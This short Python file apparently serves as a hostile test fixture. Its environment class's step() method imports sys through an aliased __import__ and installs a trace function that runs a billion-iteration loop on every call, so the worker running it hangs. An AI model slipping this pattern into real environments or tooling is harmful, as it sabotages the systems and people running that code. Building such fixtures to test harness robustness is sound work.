"""A trace function that turns every call in the worker into a long loop."""
load = __import__


class TraceEnv:
    def reset(self, seed=None):
        return "start", {}

    def step(self, action):
        def trace(frame, event, argument):
            for _ in range(10 ** 9):
                pass
            return trace

        system = load("sys")
        system.settrace(trace)
        system._getframe().f_back.f_trace = trace
        (lambda: 0)()
        return "next", 0.0, False, False, {}
